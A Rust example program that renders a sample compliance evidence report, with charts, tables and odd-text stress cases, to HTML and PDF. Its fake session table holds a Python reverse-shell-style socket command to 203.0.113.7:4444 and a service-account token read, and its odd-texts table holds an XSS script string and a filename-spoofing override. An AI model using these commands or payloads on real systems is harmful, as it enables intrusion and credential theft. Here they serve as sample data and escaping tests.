//! Writes `showcase.html` and `showcase.pdf` into a folder: every kind of block and chart, long tables, odd texts. For looking at.

#![expect(clippy::print_stdout, reason = "an example")]

use std::path::PathBuf;

use avouch_document::{
    Bar, Bin, Block, Cell, Chart, Code, Column, Columns, Created, Document, Fact, Figure, HeatMap, Histogram, Id, Lane,
    List, ListItem, Note, NoteKind, Part, Row, RowClass, Section, Series, Share, Shown, State, Strip, Summary, Table,
    Text, html, pdf,
};

/// 2026-01-01 00:00:00 UTC.
const START: i64 = 1_767_225_600;
const DAY: u32 = 86_400;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let folder: PathBuf = std::env::args().nth(1).unwrap_or_else(|| ".".into()).into();
    let rows = std::env::args().nth(2).map_or(Ok(400), |rows| rows.parse())?;
    let document = showcase(rows);
    for problem in document.problems() {
        println!("{problem}");
    }
    std::fs::write(folder.join("showcase.html"), html::render(&document))?;
    std::fs::write(folder.join("showcase.pdf"), pdf::render(&document, pdf::Paper::A4)?)?;
    Ok(())
}

fn showcase(rows: usize) -> Document {
    let mut document = Document::new("Evidence report", "en");
    document.subtitle = "Example Ltd, Payments platform, 1 January to 31 March 2026 (UTC)".into();
    document.meta = vec![
        Fact::new("Entity", "Example Ltd"),
        Fact::new(
            "Clusters",
            Text::new().plain("prod-eu-1 ").code("7f0c9a52-31aa-4f8e-9d0f-0d9a3a7e6d11").plain(", prod-us-1"),
        ),
        Fact::new("Period", "2026-01-01T00:00:00Z to 2026-04-01T00:00:00Z, the end not included"),
        Fact::new(
            "Bundle digest",
            Text::of_code("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
        ),
        Fact::new("Status", Text::of_strong("Draft")),
    ];
    document.cover = vec![Block::note(
        NoteKind::Missing,
        "two nodes were not watched for all of the period",
        Text::new().plain("See ").link(Id::new("gaps"), "the list of gaps").plain("."),
    )];
    document.created = Some(Created(START + 91 * i64::from(DAY)));
    document.parts = vec![
        Part::unnumbered("Front").with(summary()),
        Part::numbered("Results").with(access(rows)).with(charts()),
        Part::lettered("Appendices").with(odd()).with(gaps()),
    ];
    document
}

/// A number that looks random and is always the same.
fn noise(n: usize) -> usize {
    let mut x = (n as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1_e995;
    x ^= x >> 29;
    x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    (x >> 33) as usize
}

fn days(seed: usize, from: usize) -> Vec<State> {
    (0..90)
        .map(|day| match noise(seed * 1_000 + day) % 40 {
            _ if day < from => State::NoData,
            0 => State::Fail,
            1 | 2 => State::Unknown,
            _ if (30..34).contains(&day) && seed % 2 == 1 => State::Unknown,
            _ => State::Pass,
        })
        .collect()
}

fn strip(lanes: &[(&str, usize, usize)]) -> Strip {
    let lanes = lanes.iter().map(|(label, seed, from)| Lane { label: (*label).into(), cells: days(*seed, *from) });
    Strip { from: START, cell: DAY, lanes: lanes.collect() }
}

fn summary() -> Section {
    let criteria = ["CC6.1", "CC6.2", "CC6.3", "CC6.6", "CC6.7", "CC6.8", "CC7.1", "CC7.2", "CC8.1"];
    let mut table = Table::new(
        "Criteria at a glance",
        [
            Column::text("Criterion", 1.2).row_head(),
            Column::text("Result", 1.2),
            Column::number("Pass, days", 1.0),
            Column::number("Fail, days", 1.0),
            Column::number("Unknown, days", 1.0),
            Column::text("Share of the period", 3.0),
            Column::number("Deviations", 1.0),
        ],
    );
    for (index, criterion) in criteria.into_iter().enumerate() {
        let count = |state: State| days(index, 0).iter().filter(|s| **s == state).count() as u64;
        let (pass, fail, unknown) = (count(State::Pass), count(State::Fail), count(State::Unknown));
        let bar = Bar {
            label: criterion.into(),
            parts: vec![(State::Pass, pass), (State::Fail, fail), (State::Unknown, unknown)],
        };
        let words = format!("{pass} of 90 days pass, {fail} fail, {unknown} unknown");
        table.push(vec![
            Text::new().link(Id::new("access"), criterion).into(),
            Text::from(if fail > 0 { State::Fail } else { State::Unknown }).into(),
            pass.to_string().into(),
            fail.to_string().into(),
            unknown.to_string().into(),
            Cell::from(Chart::new(Share { unit: "days".into(), bars: vec![bar] }, Summary::new(words))),
            (fail / 2).to_string().into(),
        ]);
    }
    Section::new("summary", "Summary")
        .with(Block::paragraph(
            Text::new()
                .plain("In the period, 9 criteria were watched on 42 nodes: observed ")
                .strong("99.82 %")
                .plain(" of 90,720 node-hours, with ")
                .link(Id::new("gaps"), "17 gaps")
                .plain(". What was not watched is unknown; it is never counted as a pass."),
        ))
        .with(Block::Table(table))
        .with_section(
            Section::new("attention", "Matters for attention")
                .with(Block::steps([
                    Text::from("Three cluster-admin bindings were made outside of the change process."),
                    Text::new().plain("Node ").code("ip-10-2-33-7.eu-central-1.compute.internal").plain(" was silent for 61 hours."),
                    Text::from("An acceptance expired on 14 February and was not renewed."),
                ]))
                .with(Block::note(
                    NoteKind::Note,
                    "",
                    "This report states facts with their evidence. It is not an opinion on the design or operation of controls.",
                ))
                .with(Block::note(
                    NoteKind::Attention,
                    "one deviation is open",
                    "DEV-3 was found on 2 March and has no owner.",
                )),
        )
}

fn access(rows: usize) -> Section {
    let chart = Chart::new(
        strip(&[
            ("CC6.1-01 Shells in containers", 1, 0),
            ("CC6.1-02 Service accounts", 2, 0),
            ("CC6.1-03 Node access", 3, 21),
        ]),
        Summary::new(
            "CC6.1-01: 81 days pass, 2 fail, 7 unknown. CC6.1-02: 84 pass, 3 fail, 3 unknown. CC6.1-03: from 22 January, 60 pass, 4 fail, 5 unknown.",
        ),
    );
    let mut sessions = Table::new(
        "Interactive sessions in containers",
        [
            Column::text("Time (UTC)", 2.3),
            Column::text("Person", 1.6),
            Column::text("Workload", 2.6),
            Column::text("Command", 3.4),
            Column::number("Commands", 1.2),
            Column::text("Result", 1.3),
        ],
    )
    .with_id(Id::new("sessions"));
    let people = ["a.ivanova", "j.müller", "k.papadopoulos", "unknown (node shell)", "Олена Шевченко"];
    for row in 0..rows {
        let n = noise(row);
        let state = [State::Pass, State::Pass, State::Pass, State::Fail, State::Unknown][n % 5];
        let class = match state {
            State::Fail => RowClass::Fail,
            State::Unknown => RowClass::Unknown,
            _ => RowClass::Plain,
        };
        if row % 100 == 0 {
            sessions.push(Row::group(format!("Week {}", row / 100 + 1)));
        }
        let command = match n % 7 {
            0 => {
                "/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444))'"
                    .to_owned()
            }
            1 => format!("cat /var/run/secrets/kubernetes.io/serviceaccount/token-{n:x}{n:x}{n:x}"),
            _ => "bash -il".to_owned(),
        };
        let at = START + (row * 19_001) as i64;
        sessions.push(Row::of(
            class,
            vec![
                Cell::from(format!(
                    "2026-{:02}-{:02} {:02}:{:02}:{:02}",
                    1 + row % 3,
                    1 + n % 28,
                    at / 3_600 % 24,
                    at / 60 % 60,
                    at % 60
                )),
                people[n % people.len()].into(),
                Text::new().plain("payments/").code(format!("api-{:05x}", n % 99_999)).into(),
                Text::of_code(command).into(),
                (n % 1_400).to_string().into(),
                Text::from(state).into(),
            ],
        ));
    }
    sessions.push(Row::total(vec!["Sum".into(), "".into(), "".into(), "".into(), Cell::from("28,113"), "".into()]));
    sessions.shown = Some(Shown { of: 12_345, file: "populations/sessions.csv".into() });
    Section::new("access", "CC6.1 Logical access")
        .with(Block::facts([
            ("Statement", Text::from("Access to production containers is given to named persons for a ticket, and each session is recorded.")),
            ("Owner", "Platform security".into()),
            ("Kind, frequency", "Detective, continuous".into()),
            ("Population", Text::new().plain("12,345 sessions, ").code("sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae")),
            ("Result", Text::new().state(State::Fail).plain(", 4 of 90 days")),
        ]))
        .with_section(Section::new("access-days", "Time line").with(Block::Figure(Figure {
            id: Some(Id::new("access-strip")),
            caption: "Each day of the period, by control".into(),
            chart,
        })))
        .with_section(Section::new("access-sessions", "Sessions").with(Block::paragraph("Every session of the period, in time order. Those without a ticket are marked.")).with(Block::Table(sessions)))
        .with_section(Section::new("access-empty", "Break-glass accounts").with(Block::Table(
            Table::new("Use of break-glass accounts", [Column::text("Account", 1.0), Column::number("Uses", 1.0)])
                .or_empty("No evidence: no source of these events was watched in the period."),
        )))
}

fn charts() -> Section {
    let series = |name: &str, seed: usize, most: usize| Series {
        name: name.into(),
        counts: (0..90).map(|d| if (50..53).contains(&d) { 0 } else { (noise(seed + d) % most) as u64 }).collect(),
    };
    let all = [("critical", 7, 3), ("high", 1_007, 7), ("medium", 2_007, 12), ("low", 3_007, 20)];
    let all = all.map(|(name, seed, most)| series(name, seed, most));
    let sums: Vec<String> = all.iter().map(|s| format!("{} {}", s.counts.iter().sum::<u64>(), s.name)).collect();
    let words = format!(
        "Findings: {}. From 20 to 22 February and on 13 March it was not, or not wholly, watched.",
        sums.join(", ")
    );
    let columns = Columns {
        from: START,
        cell: DAY,
        unit: "findings a day".into(),
        series: all.to_vec(),
        gaps: (0..90).map(|d| (50..53).contains(&d) || d == 71).collect(),
    };
    let share = Share {
        unit: "days".into(),
        bars: vec![
            Bar { label: "prod-eu-1".into(), parts: vec![(State::Pass, 81), (State::Fail, 2), (State::Unknown, 7)] },
            Bar { label: "prod-us-1".into(), parts: vec![(State::Pass, 40), (State::Fail, 11), (State::Unknown, 39)] },
            Bar { label: "staging, a cluster with quite a long name".into(), parts: vec![] },
        ],
    };
    let bins = [("< 5 min", 112), ("5-30 min", 61), ("30-60 min", 20), ("1-4 h", 14), ("4-24 h", 6), ("> 1 d", 3)];
    let histogram = Histogram {
        unit: "findings".into(),
        axis: "time to acknowledge".into(),
        bins: bins.iter().map(|(label, count)| Bin { label: (*label).into(), count: *count }).collect(),
    };
    let roles = ["cluster-admin", "admin", "edit", "view", "secret-reader"];
    let people = ["a.ivanova", "j.müller", "k.papadopoulos", "deploy-bot", "Олена Шевченко"];
    let heat = HeatMap {
        unit: "sessions".into(),
        columns: roles.iter().map(|r| (*r).into()).collect(),
        rows: people
            .iter()
            .enumerate()
            .map(|(r, name)| {
                let cell = |c: usize| match noise(r * 10 + c) % 5 {
                    0 => None,
                    1 => Some(0),
                    _ => Some((noise(r * 77 + c) % 60 * (noise(c) % 40)) as u64),
                };
                ((*name).into(), (0..roles.len()).map(cell).collect())
            })
            .collect(),
    };
    let hours = Strip {
        from: START + 40 * i64::from(DAY),
        cell: 4 * 3_600,
        lanes: vec![Lane { label: "node-7".into(), cells: days(5, 0).into_iter().take(30).collect() }],
    };
    let many: Vec<(String, usize)> = (0..60).map(|n| (format!("control-{n:02}"), n)).collect();
    let many: Vec<(&str, usize, usize)> = many.iter().map(|(l, n)| (l.as_str(), *n, 0)).collect();
    let figure = |caption: &str, chart: Chart| Block::Figure(Figure { id: None, caption: caption.into(), chart });
    Section::new("charts", "Figures")
        .with_section(Section::new("severity", "Findings by severity").with(figure("Findings a day by severity", Chart::new(columns, Summary::new(words)))))
        .with_section(Section::new("share", "Share of days").with(figure("Days by state and cluster", Chart::new(share, Summary::new("prod-eu-1: 81 pass, 2 fail, 7 unknown. prod-us-1: 40 pass, 11 fail, 39 unknown. staging: no evidence.")))))
        .with_section(Section::new("triage", "Triage").with(figure("Time to acknowledge", Chart::new(histogram, Summary::new("216 findings: 112 within 5 minutes, 3 after more than a day.")))))
        .with_section(Section::new("matrix", "Access matrix").with(figure("Sessions by person and role", Chart::new(heat, Summary::new("Five persons, five roles; see table 2 for the figures.")))))
        .with_section(Section::new("hours", "Hours").with(figure("Node 7, by four hours", Chart::new(hours, Summary::new("Five days in steps of four hours: 28 pass, 2 fail.")))))
        .with_section(Section::new("many", "Many lanes").with(figure("Sixty controls", Chart::new(strip(&many), Summary::new("Sixty controls over ninety days.")))))
}

fn odd() -> Section {
    let mut table = Table::new(
        "Odd texts",
        [Column::text("What", 1.0).row_head(), Column::text("Text", 3.0), Column::number("Count", 0.8)],
    );
    table.push(["Markup", "</script><script>alert(1)</script> <b>bold?</b> &amp; \"quoted\" 'single'", "1"]);
    table.push(["Override", "invoice\u{202e}gpj.exe, zero\u{200b}width, bell\u{7}, escape\u{1b}[31mred", "2"]);
    table.push([
        "Scripts",
        "Ελληνικά, Українська, Tiếng Việt, naïve façade, 日本語のテキスト, עברית, العربية, \u{1f600}",
        "3",
    ]);
    table.push(["Signs", "→ ← ↑ ↓ ≤ ≥ ≠ − × ± € ₽ ✓ ✗ ⚠ ■ ● …", "4"]);
    table.push(vec![
        "Long word".into(),
        Text::of_code("sha256:".to_owned() + &"0123456789abcdef".repeat(12)).into(),
        "5".into(),
    ]);
    table.push(["Path", "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/8123/fs/usr/local/lib/python3.12/site-packages/requests/__init__.py", "6"]);
    table.push(Row::of(RowClass::Muted, ["Muted", "suppressed by an acceptance", "7"]));
    let list = List {
        ordered: false,
        items: vec![
            ListItem {
                text: "An item that holds a list".into(),
                list: Some(List {
                    ordered: true,
                    items: vec![
                        ListItem::new("first"),
                        ListItem::new(
                            "second, with a text that is long enough to wrap onto a second line, so that the hanging indent of the item can be seen",
                        ),
                    ],
                }),
            },
            ListItem::new(
                Text::new()
                    .plain("An item with ")
                    .code("code")
                    .plain(" and ")
                    .strong("strong text")
                    .plain(" and a ")
                    .link(Id::new("access-strip"), "link to a figure"),
            ),
        ],
    };
    Section::new("odd", "Odd texts, lists and code")
        .with(Block::Table(table))
        .with(Block::List(list))
        .with(Block::Code(Code {
            caption: "Rule as it was on 1 January".into(),
            text: "- rule: Terminal shell in container\n  condition: >\n    spawned_process and container\n    and shell_procs and proc.tty != 0\n  output: A shell was spawned in a container with an attached terminal (user=%user.name %container.info shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)\n\ttab: indented\n".into(),
        }))
        .with(Block::Note(Note {
            kind: NoteKind::Missing,
            title: "windows nodes".into(),
            paragraphs: vec!["Nodes that run Windows are not watched.".into(), "They are counted as unknown in every figure of this report.".into()],
        }))
}

fn gaps() -> Section {
    let mut table = Table::new(
        "Gaps",
        [
            Column::text("From", 1.0),
            Column::text("To", 1.0),
            Column::text("Node", 1.4),
            Column::text("Cause", 1.0),
            Column::number("Minutes", 0.7),
        ],
    );
    for n in 0..17 {
        table.push([
            format!("2026-02-{:02}T04:10:00Z", n + 1),
            format!("2026-02-{:02}T04:20:00Z", n + 1),
            format!("node-{}", noise(n) % 42),
            "agent restarted".into(),
            "10".into(),
        ]);
    }
    Section::new("gaps", "Sensor gaps in full").with(Block::Table(table))
}
